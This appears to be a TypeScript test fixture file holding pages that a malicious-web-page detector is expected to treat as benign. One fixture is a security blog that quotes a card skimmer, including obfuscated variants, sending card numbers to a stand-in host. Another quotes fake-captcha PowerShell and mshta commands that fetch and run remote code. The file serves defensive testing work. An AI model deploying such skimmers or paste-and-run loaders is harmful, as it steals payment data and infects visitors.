/** Things to read: some of them quote what they warn of. */
import {
  analytics,
  base64,
  bundle,
  cards,
  cmsPage,
  consent,
  footer,
  htmlDocument,
  image,
  menu,
  prose,
  repeated,
  stylesheet,
  tagManager,
  tagManagerFrame,
} from './filler.ts';
import { benign, type PageFixture } from './fixture.ts';
import { charCodes, packed, stringArray } from './obfuscation.ts';

const shown = (code: string) =>
  `<pre><code>${code.replaceAll('&', '&amp;').replaceAll('<', '&lt;')}</code></pre>`;

export const benignReading: PageFixture[] = [
  benign(
    'blog on security that quotes a skimmer and a loader',
    'https://blog.nightheronlabs.com/2026/09/anatomy-of-a-skimmer/',
    cmsPage({
      url: 'https://blog.nightheronlabs.com/2026/09/anatomy-of-a-skimmer/',
      site: 'Night Heron Labs',
      title: 'Anatomy of a card skimmer',
      topic: 'software',
      main: `<p>We found the following at the end of a shop's jQuery file. It waits for the check-out, reads the card and sends it out as a picture:</p>${shown("document.querySelector('#cc-number').addEventListener('blur',function(){new Image().src='https://jquery-metrics-cdn[.]top/p.gif?d='+btoa(this.value)});")}${prose('heron', 'software', 4)}<p>In its packed form it looked so:</p>${shown(packed("var card=document.getElementById('cc').value;new Image().src='//evil/p?'+btoa(card);"))}<p>An older one:</p>${shown(charCodes("document.write('<iframe src=//gate.example width=1 height=1></iframe>')"))}${shown(stringArray("var s=document.createElement('script');s.src='https://gate.example/l.js';document.head.appendChild(s);", 'heron'))}<p>Indicators: jquery-metrics-cdn[.]top, 203[.]0[.]113[.]9</p>`,
    }),
    'both',
  ),
  benign(
    'article on phishing that names many brands',
    'https://www.consumerfriend.org.uk/scams/phishing-explained',
    htmlDocument({
      title: 'Phishing explained: fake PayPal, Amazon and bank e-mails',
      head: `<style>${stylesheet('cf', 60)}</style>${tagManager('GTM-CF')}`,
      body: `${menu('Money|Energy|Scams|Your rights')}<h1>Phishing explained</h1><p>Criminals pretend to be PayPal, Amazon, Apple, Microsoft, Netflix, DHL, HMRC, Royal Mail, Barclays, HSBC, Facebook or your employer. “Your account has been suspended. Verify your identity within 24 hours or lose access.” Sounds familiar?</p><blockquote>Dear customer, we noticed unusual sign-in activity. Click here to confirm your password and card details.</blockquote><ul>${['paypa1.com', 'amaz0n-support.net', 'secure-hsbc-login.info', 'apple-id-verify.com'].map((name) => `<li><code>${name}</code> is not the real site</li>`).join('')}</ul>${prose('cf', 'money', 9)}<p>Has it happened to you? Forward the message to report@phishing.gov.uk.</p><form action="/newsletter" method="post"><input type="email" name="email"><button>Get our weekly scam alert</button></form>${footer('Consumer Friend')}`,
    }),
  ),
  benign(
    'write-up of pages that make people paste commands',
    'https://research.tarnhow.net/posts/paste-and-run/',
    htmlDocument({
      title: 'Paste and run: the year of the fake captcha',
      head: `<style>${stylesheet('tarn', 30)}</style>`,
      body: `<article><h1>Paste and run</h1><p>The page says “Verify you are human”, puts a command on the clipboard, and tells the visitor to press Windows + R, then Ctrl + V, then Enter.</p>${shown('powershell -w hidden -c "iex (irm hxxps://verify-human[.]example/a)" # I am not a robot: ID 4411')}${shown('mshta hxxps://captcha-check[.]example/v.mp4')}${prose('tarn', 'software', 9)}${shown("navigator.clipboard.writeText(cmd); document.querySelector('.steps').style.display = 'block';")}<h2>What to do</h2><p>Turn off the Run dialog by policy, and teach people that no captcha needs the keyboard.</p></article>${footer('Tarn How Research')}`,
    }),
  ),
  benign(
    'documentation with buttons that copy install commands',
    'https://docs.lanternctl.dev/install',
    htmlDocument({
      title: 'Install lanternctl',
      head: `<link rel="stylesheet" href="/assets/docs.css"><style>${stylesheet('lantern', 40)}</style>`,
      body: `${menu('Guide|Install|Reference|Blog')}<h1>Install</h1><h2>macOS and Linux</h2><p>Open a terminal and paste:</p><div class="code"><pre>curl -fsSL https://docs.lanternctl.dev/install.sh | sh</pre><button class="copy">Copy</button></div><h2>Windows</h2><p>Open PowerShell and paste:</p><div class="code"><pre>powershell -ExecutionPolicy ByPass -c "irm https://docs.lanternctl.dev/install.ps1 | iex"</pre><button class="copy">Copy</button></div>${prose('lantern', 'software', 8)}<script>document.querySelectorAll('.copy').forEach(b=>b.addEventListener('click',async()=>{await navigator.clipboard.writeText(b.previousElementSibling.textContent);b.textContent='Copied!';setTimeout(()=>b.textContent='Copy',1500);}));</script>`,
    }),
    'both',
  ),
  benign(
    'help desk article that uses the Run dialog',
    'https://kb.stoneharborhosting.net/windows/flush-dns',
    cmsPage({
      url: 'https://kb.stoneharborhosting.net/windows/flush-dns',
      site: 'Stone Harbor Knowledge Base',
      title: 'How to flush the DNS cache in Windows',
      topic: 'software',
      main: `<ol><li>Press <kbd>Windows</kbd> + <kbd>R</kbd>.</li><li>Type <code>cmd</code> and press Enter.</li><li>Type <code>ipconfig /flushdns</code> and press Enter.</li></ol>${prose('flush', 'software', 5)}<p>Still stuck? Call support on +1 555 0100, Monday to Friday.</p>`,
    }),
  ),
  benign(
    'article in an encyclopaedia on a miner in the browser',
    'https://en.wikipedia.org/wiki/Coinhive',
    htmlDocument({
      title: 'Coinhive - Wikipedia',
      head: '<script src="/w/load.php?lang=en&modules=startup&only=scripts&raw=1&skin=vector-2022" async></script><meta name="generator" content="MediaWiki 1.46.0">',
      body: `<form action="/w/index.php" id="searchform"><input type="search" name="search"><input type="hidden" name="title" value="Special:Search"></form><h1>Coinhive</h1><p>Coinhive was a service that let owners of web sites mine Monero with the processors of their visitors, by a script called <code>coinhive.min.js</code>. It closed in 2019.</p>${prose('wiki', 'crypto', 14)}<ol class="references">${Array.from({ length: 24 }, (_, i) => `<li id="cite_note-${i}"><a href="https://web.archive.org/web/2018/https://example.org/${i}">Archived</a></li>`).join('')}</ol>`,
    }),
    'both',
  ),
  benign(
    'how a pool for miners is set up',
    'https://www.slowrockpool.com/getting-started',
    htmlDocument({
      title: 'Getting started – Slow Rock Pool',
      head: `<style>${stylesheet('rock', 40)}</style>`,
      body: `${menu('Dashboard|Getting started|Blocks|Miners')}<h1>Getting started</h1><p>Install xmrig or another miner on your own machine and point it at us.</p>${shown('xmrig -o stratum+tcp://pool.slowrockpool.com:3333 -u YOUR_MONERO_ADDRESS -p worker1 --algo rx/0')}<table><tr><th>Port</th><th>Difficulty</th></tr><tr><td>3333</td><td>low</td></tr><tr><td>5555</td><td>mid</td></tr></table>${prose('rock', 'crypto', 8)}<form><label>Your address <input id="address"></label><button type="button">Show my hash rate</button></form>${analytics('G-ROCK')}`,
    }),
  ),
  benign(
    "wallet's own help on seed phrases",
    'https://support.metamask.io/start/what-is-a-secret-recovery-phrase/',
    htmlDocument({
      title: 'What is a Secret Recovery Phrase? | MetaMask Help Center',
      head: '<script src="/assets/js/main.7b.js" defer></script>',
      body: `<h1>What is a Secret Recovery Phrase?</h1><p>It is a list of twelve words from which all keys of a wallet are made. Whoever has the phrase has the funds. Never share your seed phrase or private key with anyone; support will never ask for it.</p>${prose('mm', 'crypto', 9)}<form role="search" action="/search"><input name="q"><button>Search</button></form>${footer('MetaMask')}`,
    }),
  ),
  benign(
    'explorer of a block chain',
    'https://explorer.quietchain.io/address/0x00000000219ab540356cbb839cbe05303d7705fa',
    htmlDocument({
      title: 'Address 0x0000…05fa',
      body: `<form action="/search"><input name="q" placeholder="Address / transaction / block"></form><table>${Array.from(
        { length: 60 },
        (_, i) =>
          `<tr><td><a href="/tx/0x${base64(`tx ${i}`, '', 32)
            .replace(/[^a-f0-9]/gi, '')
            .toLowerCase()
            .padEnd(
              64,
              '0',
            )}">0x${i.toString(16).padStart(8, '0')}…</a></td><td>${(i * 0.37).toFixed(3)} ETH</td><td>approve</td></tr>`,
      ).join('\n')}</table><script>${bundle('explorer', 30)}</script>`,
    }),
    'lists',
  ),
  benign(
    'news with forty scripts of others and hidden frames',
    'https://www.dailyparish.com/politics/council-tax-vote-2026',
    htmlDocument({
      title: 'Council tax vote on a knife edge | Daily Parish',
      head: `${tagManager('GTM-DP7')}${consent('https://cdn.privacy-mgmt.com/unified/wrapperMessagingWithoutDetection.js')}${['securepubads.g.doubleclick.net/tag/js/gpt.js', 'c.amazon-adsystem.com/aax2/apstag.js', 'cdn.taboola.com/libtrc/dailyparish/loader.js', 'widgets.outbrain.com/outbrain.js', 'static.chartbeat.com/js/chartbeat.js', 'sb.scorecardresearch.com/beacon.js', 'cdn.permutive.com/web.js', 'connect.facebook.net/en_US/fbevents.js', 'static.criteo.net/js/ld/publishertag.js', 'js-sec.indexww.com/ht/p/18.js', 'ads.pubmatic.com/AdServer/js/pwt/16.js', 'cdn.confiant-integrations.net/x/gpt_and_prebid/config.js', 'platform.twitter.com/widgets.js', 'www.instagram.com/embed.js', 'cdn.jwplayer.com/libraries/Xy.js', 'tags.crwdcntrl.net/lt/c/1.js', 'cdn.cxense.com/cx.js', 'sdk.privacy-center.org/1/loader.js', 'cdn.viafoura.net/entry/index.js', 'cdn.onesignal.com/sdks/web/v16/OneSignalSDK.page.js'].map((path) => `<script async src="https://${path}"></script>`).join('\n')}`,
      body: `${tagManagerFrame('GTM-DP7')}${menu('UK|World|Politics|Sport|Opinion|Weather')}<article><h1>Council tax vote on a knife edge</h1>${prose('dp', 'news', 22)}</article>${Array.from({ length: 6 }, (_, i) => `<div id="ad-${i}"><iframe src="https://tpc.googlesyndication.com/safeframe/1-0-40/html/container.html?n=${i}" width="300" height="250" sandbox="allow-forms allow-popups allow-scripts"></iframe></div>`).join('')}<iframe src="https://gum.criteo.com/syncframe?origin=publishertag" width="0" height="0" style="display:none"></iframe><iframe src="https://www.google.com/recaptcha/api2/aframe" width="0" height="0" style="display:none"></iframe><iframe name="__tcfapiLocator" style="display:none"></iframe>${cards('dp', 12, 'news')}${footer('Daily Parish Media')}<script>${bundle('dp', 70)}</script>`,
    }),
    'both',
  ),
  benign(
    'page for telephones in AMP',
    'https://www.dailyparish.com/amp/sport/cup-draw',
    `<!doctype html><html ⚡ lang="en"><head><meta charset="utf-8"><title>Cup draw: who plays whom</title><link rel="canonical" href="https://www.dailyparish.com/sport/cup-draw"><script async src="https://cdn.ampproject.org/v0.js"></script><script async custom-element="amp-iframe" src="https://cdn.ampproject.org/v0/amp-iframe-0.1.js"></script><style amp-boilerplate>body{visibility:hidden;animation:-amp-start 8s steps(1,end) 0s 1 normal both}@keyframes -amp-start{from{visibility:hidden}to{visibility:visible}}</style><style amp-custom>${stylesheet('amp', 90)}</style></head><body><h1>Cup draw</h1>${prose('amp', 'sport', 12)}<amp-ad width="300" height="250" type="doubleclick"></amp-ad><amp-analytics type="gtag"></amp-analytics></body></html>`,
  ),
  benign(
    'recipe',
    'https://www.thyme-and-again.com/slow-onion-soup/',
    cmsPage({
      url: 'https://www.thyme-and-again.com/slow-onion-soup/',
      site: 'Thyme and Again',
      title: 'Slow onion soup',
      topic: 'food',
      head: `<script type="application/ld+json">${JSON.stringify({ '@context': 'https://schema.org', '@type': 'Recipe', name: 'Slow onion soup', recipeIngredient: ['1 kg onions', '50 g butter'], totalTime: 'PT2H' })}</script>`,
      main: `${image('soup', 14_000, 'soup')}${prose('soup', 'food', 14)}`,
      tail: '<script data-noptimize="1" data-cfasync="false" src="//scripts.mediavine.com/tags/thyme-and-again.js"></script><iframe src="https://www.youtube-nocookie.com/embed/AbCdEfGhIjK" width="560" height="315" allowfullscreen></iframe>',
    }),
    'lists',
  ),
  benign(
    'Russian news on a Latin name',
    'https://www.severnyvestnik.ru/news/2026/11/18/most/',
    htmlDocument({
      title: 'Новый мост через Северку откроют весной — Северный вестник',
      lang: 'ru',
      head: `<script>(function(m,i){m[i]=m[i]||function(){(m[i].a=m[i].a||[]).push(arguments)};var k=document.createElement('script');k.async=1;k.src='https://mc.yandex.ru/metrika/tag.js';document.head.appendChild(k)})(window,'ym');ym(8812,'init',{webvisor:true});</script><style>${stylesheet('sever', 50)}</style>`,
      body: `${menu('Город|Область|Спорт|Погода')}<h1>Новый мост откроют весной</h1>${repeated('sever', ['Строительство нового моста подходит к концу.', 'По словам главы района, работы идут по графику.', 'Жители соседних деревень ждали этого десять лет.', 'Движение автобусов изменится с первого апреля.', 'Следующее заседание совета пройдёт в четверг.'], 14)}<noscript><img src="https://mc.yandex.ru/watch/8812" style="position:absolute;left:-9999px" alt=""></noscript>${footer('Северный вестник', 'О нас|Реклама|Контакты')}`,
    }),
  ),
  benign(
    'Arabic public service with sign-in',
    'https://services.wadi-municipality.gov.jo/ar/login',
    htmlDocument({
      title: 'بلدية الوادي - الخدمات الإلكترونية',
      lang: 'ar',
      head: `<style>${stylesheet('wadi', 50)}body{direction:rtl}</style>`,
      body: `<h1>تسجيل الدخول</h1><form action="/ar/login" method="post"><label>الرقم الوطني <input name="nid"></label><label>كلمة المرور <input type="password" name="pwd"></label><button>دخول</button></form>${repeated('wadi', ['يمكنكم دفع رسوم النفايات عبر الموقع.', 'يرجى مراجعة مكتب خدمة الجمهور عند فقدان كلمة المرور.', 'أوقات الدوام من الثامنة حتى الثالثة.'], 8)}`,
    }),
  ),
];
